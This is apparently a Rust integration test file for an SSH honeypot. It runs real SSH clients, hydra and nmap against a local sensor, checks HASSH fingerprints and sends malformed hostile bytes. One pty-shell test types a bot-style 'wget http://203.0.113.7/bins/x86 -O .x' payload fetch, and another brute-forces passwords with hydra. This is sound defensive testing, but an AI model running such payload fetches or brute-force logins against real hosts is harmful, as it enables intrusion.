//! The `ssh` persona with real clients: OpenSSH `ssh` (via `sshpass` and via `SSH_ASKPASS`
//! for several passwords on one connection), paramiko, asyncssh, `hydra ssh` and `nmap -sV`,
//! plus hostile raw bytes. The client's version line and HASSH are checked against an
//! independent Python computation from the bytes a tap saw on the wire.

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::Path;

use honeyport_event::{EndReason, Event, EventKind};
use tokio::io::AsyncWriteExt;

use crate::common::*;

/// One ssh listener on 127.0.0.1:0 with the test host keys; only root:hunter2 gets in.
fn config(extra: &str) -> String {
    let extra = if extra.contains("fail_delay") {
        extra.to_string()
    } else {
        format!("fail_delay = \"100ms\"\n{extra}")
    };
    format!(
        "[limits]\nidle_timeout = \"3s\"\n\n\
         [personas.ssh]\ntype = \"ssh\"\nhost_keys = \"ssh\"\nstall_timeout = \"1s\"\n{extra}\n\
         [personas.ssh.credentials]\naccept = [\"root:hunter2\"]\naccept_any_after = 0\n\n\
         [[listeners]]\nname = \"ssh\"\nports = 0\nbind = [\"127.0.0.1\"]\npersona = \"ssh\"\n"
    )
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn tags(s: &[Event]) -> Vec<String> {
    s.iter()
        .filter_map(|e| match &e.kind {
            EventKind::RuleMatch { rule, action, .. } if action == "tag" => Some(rule.clone()),
            _ => None,
        })
        .collect()
}

/// HASSH and version line computed from raw client bytes by a separate implementation
/// (Python, straight from RFC 4253 and Salesforce's HASSH definition).
const PY_HASSH: &str = r#"
import hashlib, struct, sys
for path in sys.argv[1:]:
    b = open(path, "rb").read()
    nl = b.index(b"\n")
    version = b[:nl].rstrip(b"\r")
    p = b[nl + 1:]
    length, pad = struct.unpack(">IB", p[:5])
    payload = p[5:4 + length - pad]
    assert payload[0] == 20, "not KEXINIT"
    off = 17
    lists = []
    for _ in range(10):
        (n,) = struct.unpack(">I", payload[off:off + 4])
        lists.append(payload[off + 4:off + 4 + n].decode())
        off += 4 + n
    algs = ";".join([lists[0], lists[2], lists[4], lists[6]])
    print(hashlib.md5(algs.encode()).hexdigest(), version.decode())
"#;

/// (hassh, version) per connection the tap saw, computed by [`PY_HASSH`].
async fn python_hassh(tap: &Tap) -> BTreeSet<(String, String)> {
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for (i, w) in tap.sent().iter().enumerate() {
        let p = dir.path().join(format!("c{i}"));
        std::fs::write(&p, w).unwrap();
        paths.push(p);
    }
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(PY_HASSH)
            .args(&paths),
    )
    .await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    text(&out.stdout)
        .lines()
        .map(|l| {
            let (h, v) = l.split_once(' ').unwrap();
            (h.to_string(), v.to_string())
        })
        .collect()
}

/// (hassh, version) of every session in the store.
fn stored_hassh(done: &Stopped) -> BTreeSet<(String, String)> {
    done.sessions()
        .iter()
        .map(|s| {
            let h = s
                .iter()
                .find_map(|e| match &e.kind {
                    EventKind::ClientKex { hassh, .. } => Some(hassh.clone()),
                    _ => None,
                })
                .expect("client.kex recorded");
            let v = s
                .iter()
                .find_map(|e| match &e.kind {
                    EventKind::ClientVersion { version } => Some(text(&version.0)),
                    _ => None,
                })
                .expect("client.version recorded");
            (h, v)
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_password_keyboard_interactive_and_exec_with_hassh_checked_independently() {
    let sensor = start(&config("")).await;
    let tap = Tap::new(sensor.tcp("ssh")).await;
    // A wrong password (password method), then the right one (keyboard-interactive, what
    // ssh tries first) with commands.
    let wrong = run_client(sshpass("letmein", tap.addr).args([
        "-o",
        "PreferredAuthentications=password",
        "root@127.0.0.1",
        "true",
    ]))
    .await;
    assert_eq!(wrong.status.code(), Some(5), "{}", text(&wrong.stderr));
    let ok = run_client(sshpass("hunter2", tap.addr).args([
        "root@127.0.0.1",
        "uname -a; id; echo -n hi > /tmp/x; cat /tmp/x",
    ]))
    .await;
    assert!(ok.status.success(), "{}", text(&ok.stderr));
    let out = text(&ok.stdout);
    assert!(out.starts_with("Linux "), "{out}");
    assert!(out.contains("uid=0(root) gid=0(root)"), "{out}");
    assert!(out.ends_with("hi"), "{out:?}");
    assert!(
        !out.contains('\r'),
        "exec without a pty sends bare LF: {out:?}"
    );

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 2);
    assert_eq!(
        logins(&s[0]),
        [(false, t("root"), t("letmein"), "ssh-password".into())]
    );
    assert_eq!(
        logins(&s[1]),
        [(
            true,
            t("root"),
            t("hunter2"),
            "ssh-keyboard-interactive".into()
        )]
    );
    assert_eq!(
        commands(&s[1]),
        [
            t("uname -a"),
            t("id"),
            t("echo -n hi > /tmp/x"),
            t("cat /tmp/x")
        ]
    );
    // The version line and HASSH the sensor recorded are what Python computes from the
    // bytes on the wire; and the clear-text bytes are in the session's input.
    let py = python_hassh(&tap).await;
    assert_eq!(py.len(), 1, "one client, one fingerprint: {py:?}");
    assert_eq!(stored_hassh(&done), py);
    for (sess, wire) in s.iter().zip(tap.sent()) {
        let input = input_of(sess);
        assert!(
            wire.starts_with(&input) && input.len() > 100,
            "clear bytes recorded"
        );
        assert_eq!(end_of(sess).0, EndReason::PeerClosed);
    }
}

fn t(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

/// One refused password from each Python SSH library: `paramiko` or `asyncssh`.
const PY_REFUSED: &str = r#"
import sys
lib, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if lib == "paramiko":
    import paramiko
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect(host, port=port, username="admin", password="admin", look_for_keys=False,
                  allow_agent=False, timeout=10, banner_timeout=10)
        sys.exit("accepted")
    except paramiko.AuthenticationException:
        print("refused")
else:
    import asyncio, asyncssh
    async def main():
        try:
            async with asyncssh.connect(host, port, username="admin", password="admin",
                                        known_hosts=None, preferred_auth="password"):
                sys.exit("accepted")
        except asyncssh.PermissionDenied:
            print("refused")
    asyncio.run(main())
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paramiko_and_asyncssh_hassh_checked_independently() {
    let sensor = start(&config("fail_delay = 0")).await;
    let tap = Tap::new(sensor.tcp("ssh")).await;
    for lib in ["paramiko", "asyncssh"] {
        let out = run_client(
            tokio::process::Command::new("python3")
                .arg("-c")
                .arg(PY_REFUSED)
                .arg(lib)
                .arg(tap.addr.ip().to_string())
                .arg(tap.addr.port().to_string()),
        )
        .await;
        assert_eq!(
            text(&out.stdout).trim(),
            "refused",
            "{lib}: {}",
            text(&out.stderr)
        );
    }
    let done = sensor.stop().await;
    done.assert_paired();
    // What the sensor recorded is what Python computes from the bytes on the wire: two
    // clients, two different fingerprints, each with its library's version line.
    let py = python_hassh(&tap).await;
    assert_eq!(py.len(), 2, "{py:?}");
    assert_eq!(stored_hassh(&done), py);
    let versions: Vec<&str> = py.iter().map(|(_, v)| v.as_str()).collect();
    assert!(
        versions.iter().any(|v| v.starts_with("SSH-2.0-paramiko_"))
            && versions.iter().any(|v| v.starts_with("SSH-2.0-AsyncSSH_")),
        "{versions:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_several_passwords_on_one_connection_then_a_pty_shell() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    // ssh asks its askpass program for each password: two wrong ones, then the right one.
    let dir = tempfile::tempdir().unwrap();
    let askpass = dir.path().join("askpass");
    std::fs::write(
        &askpass,
        format!(
            "#!/bin/sh\nf={}/n\nn=$(cat $f 2>/dev/null || echo 0)\necho $((n+1)) > $f\n\
             case $n in 0) echo 'pw one';; 1) echo 'Pa$$w0rd';; *) echo hunter2;; esac\n",
            dir.path().display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        &askpass,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let mut cmd = ssh(addr);
    cmd.env("SSH_ASKPASS", &askpass)
        .env("TERM", "xterm-256color")
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":0")
        .args([
            "-tt",
            "-o",
            "NumberOfPasswordPrompts=3",
            "-o",
            "PreferredAuthentications=password",
            "root@127.0.0.1",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    let mut child = cmd.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(b"cd /tmp\nwget http://203.0.113.7/bins/x86 -O .x\nexit\n")
        .await
        .unwrap();
    let out = tokio::time::timeout(std::time::Duration::from_secs(60), child.wait_with_output())
        .await
        .expect("ssh finished")
        .unwrap();
    let shown = text(&out.stdout);
    assert!(shown.contains("root@"), "a prompt: {shown:?}");
    assert!(shown.contains("logout"), "{shown:?}");

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 1, "one connection");
    assert_eq!(
        logins(&s[0]),
        [
            (false, t("root"), t("pw one"), "ssh-password".into()),
            (false, t("root"), t("Pa$$w0rd"), "ssh-password".into()),
            (true, t("root"), t("hunter2"), "ssh-password".into()),
        ]
    );
    assert_eq!(
        commands(&s[0]),
        [
            t("cd /tmp"),
            t("wget http://203.0.113.7/bins/x86 -O .x"),
            t("exit")
        ]
    );
    assert!(s[0].iter().any(|e| matches!(&e.kind,
        EventKind::ClientSize { term: Some(term), .. } if term.0 == b"xterm-256color")));
    assert!(s[0].iter().any(|e| matches!(&e.kind,
        EventKind::FileDownload { url, .. } if url.0 == b"http://203.0.113.7/bins/x86")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn public_keys_are_recorded_by_sha256_fingerprint_and_refused() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("id");
    std::fs::copy(fixtures().join("ssh/client_ed25519"), &key).unwrap();
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let out = run_client(
        ssh(addr)
            .args([
                "-o",
                "BatchMode=yes",
                "-o",
                "PreferredAuthentications=publickey",
                "-o",
                "IdentitiesOnly=yes",
                "-i",
            ])
            .arg(&key)
            .args(["root@127.0.0.1", "true"]),
    )
    .await;
    assert_eq!(out.status.code(), Some(255), "{}", text(&out.stderr));
    // The fingerprint as ssh-keygen computes it.
    let kg = run_client(
        tokio::process::Command::new("ssh-keygen")
            .arg("-lf")
            .arg(fixtures().join("ssh/client_ed25519.pub")),
    )
    .await;
    let want = text(&kg.stdout).split(' ').nth(1).unwrap().to_string();
    assert!(want.starts_with("SHA256:"));

    let done = sensor.stop().await;
    done.assert_paired();
    let fps: Vec<_> = done
        .all()
        .into_iter()
        .filter_map(|e| match e.kind {
            EventKind::ClientFingerprint {
                username,
                fingerprint,
                key_type,
                key,
            } => Some((username.0, fingerprint, key_type, key)),
            _ => None,
        })
        .collect();
    assert!(!fps.is_empty());
    let pubkey = std::fs::read_to_string(fixtures().join("ssh/client_ed25519.pub")).unwrap();
    for (u, fp, ty, k) in fps {
        assert_eq!(
            (u, fp.as_str(), ty.as_str()),
            (t("root"), want.as_str(), "ssh-ed25519")
        );
        assert!(
            pubkey.starts_with(&k[..k.rfind(' ').unwrap_or(k.len())]),
            "{k}"
        );
    }
}

const PARAMIKO: &str = r##"
import sys, time, paramiko
from paramiko.transport import ServiceRequestingTransport
host, port, classic_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])

# Several passwords on one connection (paramiko >= 3.2's transport that asks for the
# ssh-userauth service once), then exec, a pty shell and forwarding requests.
t = ServiceRequestingTransport((host, port))
t.connect()
for pw in ["123456", "root pass"]:
    try:
        t.auth_password("root", pw)
        sys.exit("accepted " + pw)
    except paramiko.AuthenticationException:
        pass
t.auth_password("root", "hunter2")
assert t.is_authenticated()
c = t.open_session()
c.exec_command("uname -m; exit 3")
out = c.makefile().read()
assert out == b"x86_64\n", out
assert c.recv_exit_status() == 3
c = t.open_session()
c.get_pty(term="vt100", width=132, height=43)
c.invoke_shell()
buf = b""
while b"# " not in buf:
    buf += c.recv(4096)
c.send(b"cat /proc/cpuinfo | grep -c processor\n")
c.resize_pty(width=100, height=30)
while b"processor" not in buf:
    buf += c.recv(4096)
c.send(b"exit\n")
while not c.exit_status_ready():
    buf += c.recv(4096) or b""
try:
    t.open_channel("direct-tcpip", ("127.0.0.1", 9), ("127.0.0.1", 40000))
    sys.exit("direct-tcpip was allowed")
except paramiko.ChannelException as e:
    assert e.code == 1, e
try:
    t.request_port_forward("127.0.0.1", 0)
    sys.exit("tcpip-forward was allowed")
except paramiko.SSHException:
    pass
t.close()

# Classic Transport asks for the service before every attempt; russh 0.65.1 drops the repeat,
# so the second password never arrives. The sensor ends the stalled connection.
t = paramiko.Transport((host, classic_port))
t.connect()
try:
    t.auth_password("root", "first")
except paramiko.AuthenticationException:
    pass
start = time.time()
try:
    t.auth_password("root", "second")
    sys.exit("second password accepted")
except (paramiko.SSHException, EOFError) as e:
    print("stalled:", type(e).__name__, e)
print("classic ended after", round(time.time() - start, 1), "s")
"##;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paramiko_several_passwords_exec_pty_shell_and_refused_forwarding() {
    // Two sensors: the good transport talks to one without the stall check (on loaded CI
    // machines it twice ended that connection between the second and third password; the
    // cause is not found yet), the classic transport to one with it (its stall is the point).
    let good_cfg = config("").replace("stall_timeout = \"1s\"", "stall_timeout = \"0s\"");
    let sensor = start(&good_cfg).await;
    let classic = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(PARAMIKO)
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string())
            .arg(classic.tcp("ssh").port().to_string()),
    )
    .await;
    assert!(
        out.status.success(),
        "paramiko: {}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );

    let done = sensor.stop().await;
    let classic_done = classic.stop().await;
    done.assert_paired();
    classic_done.assert_paired();
    let mut s = done.sessions();
    assert_eq!(s.len(), 1, "the good transport's connection");
    let c = classic_done.sessions();
    assert_eq!(c.len(), 1, "the classic transport's connection");
    s.extend(c);
    assert_eq!(
        logins(&s[0]),
        [
            (false, t("root"), t("123456"), "ssh-password".into()),
            (false, t("root"), t("root pass"), "ssh-password".into()),
            (true, t("root"), t("hunter2"), "ssh-password".into()),
        ]
    );
    assert_eq!(
        commands(&s[0]),
        [
            t("uname -m"),
            t("exit 3"),
            t("cat /proc/cpuinfo"),
            t("grep -c processor"),
            t("exit")
        ]
    );
    let sizes: Vec<_> = s[0]
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ClientSize {
                width,
                height,
                term,
            } => Some((*width, *height, term.as_ref().map(|t| t.0.clone()))),
            _ => None,
        })
        .collect();
    assert_eq!(sizes, [(132, 43, Some(t("vt100"))), (100, 30, None)]);
    let fwd: Vec<_> = s[0]
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ForwardRequest {
                kind, host, port, ..
            } => Some((kind.clone(), host.0.clone(), *port)),
            _ => None,
        })
        .collect();
    assert_eq!(
        fwd,
        [
            ("direct-tcpip".to_string(), t("127.0.0.1"), 9),
            ("tcpip-forward".to_string(), t("127.0.0.1"), 0)
        ]
    );
    // The classic-transport connection: the first attempt recorded, the stall recorded.
    assert_eq!(
        logins(&s[1]),
        [(false, t("root"), t("first"), "ssh-password".into())]
    );
    assert_eq!(tags(&s[1]), ["ssh.auth_stalled"]);
    let versions: Vec<_> = s
        .iter()
        .flat_map(|x| x.iter())
        .filter_map(|e| match &e.kind {
            EventKind::ClientVersion { version } => Some(text(&version.0)),
            _ => None,
        })
        .collect();
    assert!(
        versions.iter().all(|v| v.starts_with("SSH-2.0-paramiko_")),
        "{versions:?}"
    );
    // Every event as the JSON-lines sink writes it reads back the same (no field clashes
    // with the session's own addresses).
    for e in done.all() {
        let j = e.to_json();
        assert_eq!(Event::from_json(j.as_bytes()).unwrap(), e, "{j}");
    }
}

const ASYNCSSH: &str = r#"
import asyncio, sys, asyncssh
host, port = sys.argv[1], int(sys.argv[2])
async def main():
    try:
        async with asyncssh.connect(host, port, username="admin", password="admin",
                                    known_hosts=None, preferred_auth="password"):
            sys.exit("admin accepted")
    except asyncssh.PermissionDenied:
        pass
    async with asyncssh.connect(host, port, username="root", password="hunter2",
                                known_hosts=None, preferred_auth="password") as c:
        r = await c.run("echo asyncssh; cat /etc/os-release | head -1", check=True)
        assert r.stdout.startswith("asyncssh\n"), r.stdout
        print(r.stdout)
asyncio.run(main())
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn asyncssh_login_and_run() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(ASYNCSSH)
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string()),
    )
    .await;
    assert!(out.status.success(), "asyncssh: {}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("PRETTY_NAME=\"Debian GNU/Linux"),
        "{}",
        text(&out.stdout)
    );
    let done = sensor.stop().await;
    done.assert_paired();
    let all: Vec<_> = done.sessions().iter().flat_map(|s| logins(s)).collect();
    assert!(all.contains(&(false, t("admin"), t("admin"), "ssh-password".into())));
    assert!(all.contains(&(true, t("root"), t("hunter2"), "ssh-password".into())));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_every_password_it_tried_is_stored() {
    let sensor = start(&config("fail_delay = 0")).await;
    let addr = sensor.tcp("ssh");
    let dir = tempfile::tempdir().unwrap();
    let words = ["123456", "pass word", "toor", "r00t!", "hunter2"];
    std::fs::write(dir.path().join("pw.txt"), words.join("\n") + "\n").unwrap();
    let out = run_client(
        tokio::process::Command::new("hydra")
            .current_dir(dir.path())
            .args(["-I", "-t", "1", "-l", "root", "-P", "pw.txt"])
            .arg(format!("ssh://{}:{}", addr.ip(), addr.port())),
    )
    .await;
    let shown = text(&out.stdout);
    assert!(
        shown.contains("1 valid password") && shown.contains("password: hunter2"),
        "hydra: {shown}\n{}",
        text(&out.stderr)
    );
    let done = sensor.stop().await;
    done.assert_paired();
    let stored: Vec<_> = done.sessions().iter().flat_map(|s| logins(s)).collect();
    for w in words {
        let ok = w == "hunter2";
        assert!(
            stored
                .iter()
                .any(|l| l.0 == ok && l.1 == b"root" && l.2 == w.as_bytes()),
            "{w:?} not stored: {stored:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_identifies_openssh() {
    let sensor = start(&config("")).await;
    let port = sensor.tcp("ssh").port();
    let (lines, all) = nmap_service_lines(&[port]).await;
    assert!(
        lines[0].contains("OpenSSH 9.2p1 Debian 2+deb12u3"),
        "{}",
        all
    );
    sensor.stop().await.assert_paired();
}

/// Bytes in, then whatever comes back until the sensor closes.
async fn raw(addr: SocketAddr, b: &[u8]) -> Vec<u8> {
    let mut c = connect(addr).await;
    let _ = c.write_all(b).await;
    read_to_close(&mut c).await
}

/// A KEXINIT packet (clear framing) with `kex` as its kex list.
fn kexinit(kex: &str) -> Vec<u8> {
    let lists = [
        kex,
        "ssh-ed25519",
        "aes128-ctr",
        "aes128-ctr",
        "hmac-sha2-256",
        "hmac-sha2-256",
        "none",
        "none",
        "",
        "",
    ];
    let mut p = vec![20u8];
    p.extend_from_slice(&[1u8; 16]);
    for l in lists {
        p.extend_from_slice(&(l.len() as u32).to_be_bytes());
        p.extend_from_slice(l.as_bytes());
    }
    p.extend_from_slice(&[0, 0, 0, 0, 0]);
    let pad = 8 - (p.len() + 5) % 8 + 4;
    let mut out = ((p.len() + pad + 1) as u32).to_be_bytes().to_vec();
    out.push(pad as u8);
    out.extend_from_slice(&p);
    out.extend(std::iter::repeat_n(0u8, pad));
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_bytes_end_quickly_with_a_recorded_end() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    // Not SSH at all.
    let got = raw(addr, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").await;
    assert!(
        got.starts_with(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
        "{got:?}"
    );
    // A 100 KB version line.
    let mut long = b"SSH-2.0-".to_vec();
    long.extend(std::iter::repeat_n(b'A', 100_000));
    long.extend_from_slice(b"\r\n");
    raw(addr, &long).await;
    // A packet claiming 4 GB.
    raw(addr, b"SSH-2.0-x\r\n\xff\xff\xff\xf0\x04\x14AAAAAAAAAAAA").await;
    // A KEXINIT with 5000 kex names (the rest of the handshake never comes).
    let many = vec!["x"; 5000].join(",");
    let mut k = b"SSH-2.0-bot\r\n".to_vec();
    k.extend(kexinit(&many));
    raw(addr, &k).await;
    // Stops after its version line: the idle timeout (3 s here) ends it.
    raw(addr, b"SSH-2.0-quiet\r\n").await;

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 5);
    // Every byte the peers sent before the end is in the record, capped by what was read.
    assert!(
        tags(&s[0]).contains(&"ssh.not_a_version_line".to_string()),
        "{:?}",
        tags(&s[0])
    );
    assert!(
        tags(&s[1]).contains(&"ssh.version_line_too_long".to_string()),
        "{:?}",
        tags(&s[1])
    );
    assert!(input_of(&s[1]).len() <= 100_010);
    assert!(
        tags(&s[2]).contains(&"ssh.bad_packet_length".to_string()),
        "{:?}",
        tags(&s[2])
    );
    let kex_lens: Vec<_> = s[3]
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ClientKex { kex_algs, .. } => Some(kex_algs.len()),
            _ => None,
        })
        .collect();
    assert_eq!(kex_lens, [256], "names capped");
    assert_eq!(end_of(&s[4]).0, EndReason::IdleTimeout);
}

#[test]
fn ssh_config_mistakes_are_reported() {
    let src = "[personas.s]\ntype = \"ssh\"\nprofile = \"dropbear\"\nversion = \"OpenSSH\"\n\
               methods = [\"password\", \"hostbased\"]\nfail_delay = \"2h\"\nshell = \"nope\"\n\
               [[listeners]]\nports = 0\ntransport = \"udp\"\npersona = \"s\"\n";
    let err = match honeyport::config::validate_str(src, "t.toml", Path::new(".")) {
        Ok(_) => panic!("accepted"),
        Err(e) => e.to_string(),
    };
    for want in [
        "3:11: personas.s.profile",
        "4:11: personas.s.version",
        "5:24: personas.s.methods[1]",
        "6:14: personas.s.fail_delay",
        "7:9: personas.s.shell",
        "needs TCP",
    ] {
        assert!(err.contains(want), "{want} not in {err}");
    }
}

// ---- Uploads: legacy SCP (scp -O), SCP over SFTP (scp), paramiko's SFTPClient ----

fn scp(addr: SocketAddr) -> tokio::process::Command {
    let mut c = tokio::process::Command::new("sshpass");
    c.args(["-p", "hunter2", "scp"])
        .args(NO_HOSTKEY_CHECK)
        .args(["-P"])
        .arg(addr.port().to_string());
    c
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(b))
}

/// Bytes that do not repeat in any short period (so a cut or a shift changes the hash).
fn junk(n: usize, seed: u8) -> Vec<u8> {
    let mut x: u32 = 0x9e37_79b9 ^ u32::from(seed);
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect()
}

/// (path, sha256, len) of every file.write of a session.
fn writes(s: &[Event]) -> Vec<(String, String, u64)> {
    s.iter()
        .filter_map(|e| match &e.kind {
            EventKind::FileWrite { path, sha256, len } => {
                Some((text(&path.0), sha256.clone(), *len))
            }
            _ => None,
        })
        .collect()
}

const PARAMIKO_PUT: &str = r#"
import sys, paramiko
host, port, local, remote, back = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
t = paramiko.Transport((host, port))
t.connect(username="root", password="hunter2")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.put(local, remote, confirm=False)
print("size", sftp.stat(remote).st_size)
print("listed", remote.rsplit("/", 1)[1] in sftp.listdir(remote.rsplit("/", 1)[0]))
if back != "-":
    sftp.get(remote, back)
sftp.close()
t.close()
"#;

async fn paramiko_put(addr: SocketAddr, local: &Path, remote: &str, back: &str) -> String {
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(PARAMIKO_PUT)
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string())
            .arg(local)
            .arg(remote)
            .arg(back),
    )
    .await;
    assert!(
        out.status.success(),
        "paramiko: {}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    text(&out.stdout)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn legacy_scp_file_and_directory_are_recorded_by_sha256_and_not_stored() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let dir = tempfile::tempdir().unwrap();
    let a = junk(100_000, 1);
    std::fs::write(dir.path().join("a.bin"), &a).unwrap();
    let tree = dir.path().join("d");
    std::fs::create_dir_all(tree.join("sub")).unwrap();
    let (x, y) = (b"hello scp\n".to_vec(), junk(5000, 2));
    std::fs::write(tree.join("x.txt"), &x).unwrap();
    std::fs::write(tree.join("sub/y.bin"), &y).unwrap();

    let one = run_client(
        scp(addr)
            .arg("-O")
            .arg(dir.path().join("a.bin"))
            .arg("root@127.0.0.1:/tmp/"),
    )
    .await;
    assert!(one.status.success(), "scp -O: {}", text(&one.stderr));
    let rec = run_client(
        scp(addr)
            .args(["-O", "-r"])
            .arg(&tree)
            .arg("root@127.0.0.1:/tmp/"),
    )
    .await;
    assert!(rec.status.success(), "scp -O -r: {}", text(&rec.stderr));

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 2);
    let cmd = text(&commands(&s[0])[0]);
    assert!(cmd.starts_with("scp ") && cmd.contains("-t"), "{cmd}");
    assert_eq!(
        writes(&s[0]),
        [("/tmp/a.bin".to_string(), sha256_hex(&a), a.len() as u64)]
    );
    let mut w = writes(&s[1]);
    w.sort();
    assert_eq!(
        w,
        [
            (
                "/tmp/d/sub/y.bin".to_string(),
                sha256_hex(&y),
                y.len() as u64
            ),
            ("/tmp/d/x.txt".to_string(), sha256_hex(&x), x.len() as u64),
        ]
    );
    assert!(text(&commands(&s[1])[0]).contains("-r"));
    assert!(tags(&s[0]).is_empty() && tags(&s[1]).is_empty());
    assert!(
        !done.data_dir().join("uploads").exists(),
        "nothing stored by default"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scp_over_sftp_and_paramiko_put_are_recorded_by_sha256() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let dir = tempfile::tempdir().unwrap();
    let (b, p) = (junk(70_000, 3), junk(40_000, 4));
    std::fs::write(dir.path().join("b.bin"), &b).unwrap();
    std::fs::write(dir.path().join("p.bin"), &p).unwrap();

    // OpenSSH 9.2's scp speaks SFTP unless told -O.
    let out = run_client(
        scp(addr)
            .arg(dir.path().join("b.bin"))
            .arg("root@127.0.0.1:/tmp/b.bin"),
    )
    .await;
    assert!(
        out.status.success(),
        "scp: {:?} {} {}",
        out.status,
        text(&out.stdout),
        text(&out.stderr)
    );
    let said = paramiko_put(addr, &dir.path().join("p.bin"), "/tmp/p.bin", "-").await;
    assert!(said.contains("size 40000"), "{said}");
    assert!(said.contains("listed True"), "{said}");

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 2);
    assert_eq!(commands(&s[0]), [t("subsystem sftp")]);
    assert_eq!(
        writes(&s[0]),
        [("/tmp/b.bin".to_string(), sha256_hex(&b), b.len() as u64)]
    );
    assert_eq!(
        writes(&s[1]),
        [("/tmp/p.bin".to_string(), sha256_hex(&p), p.len() as u64)]
    );
    assert!(tags(&s[0]).is_empty() && tags(&s[1]).is_empty());
    assert!(!done.data_dir().join("uploads").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_over_max_upload_are_cut_tagged_and_stored_when_configured() {
    let sensor = start(&config("max_upload = \"4KiB\"\nstore_uploads = true\n")).await;
    let addr = sensor.tcp("ssh");
    let dir = tempfile::tempdir().unwrap();
    let big = junk(10_000, 5);
    std::fs::write(dir.path().join("big.bin"), &big).unwrap();
    let small = b"#!/bin/sh\necho small\n".to_vec();
    std::fs::write(dir.path().join("small.sh"), &small).unwrap();
    let kept = &big[..4096];

    let legacy = run_client(
        scp(addr)
            .arg("-O")
            .arg(dir.path().join("big.bin"))
            .arg(dir.path().join("small.sh"))
            .arg("root@127.0.0.1:/tmp"),
    )
    .await;
    assert!(legacy.status.success(), "scp -O: {}", text(&legacy.stderr));
    // paramiko puts the big file and reads back what was kept.
    let back = dir.path().join("back.bin");
    let said = paramiko_put(
        addr,
        &dir.path().join("big.bin"),
        "/root/big.bin",
        back.to_str().unwrap(),
    )
    .await;
    assert!(said.contains("size 4096"), "{said}");
    assert_eq!(std::fs::read(&back).unwrap(), kept);

    let done = sensor.stop().await;
    done.assert_paired();
    let s = done.sessions();
    assert_eq!(s.len(), 2);
    assert_eq!(
        writes(&s[0]),
        [
            ("/tmp/big.bin".to_string(), sha256_hex(kept), 4096),
            (
                "/tmp/small.sh".to_string(),
                sha256_hex(&small),
                small.len() as u64
            ),
        ]
    );
    assert_eq!(tags(&s[0]), ["ssh.upload_truncated"]);
    assert_eq!(
        writes(&s[1]),
        [("/root/big.bin".to_string(), sha256_hex(kept), 4096)]
    );
    assert_eq!(tags(&s[1]), ["ssh.upload_truncated"]);
    // Each distinct content stored once, under its SHA-256.
    let up = done.data_dir().join("uploads");
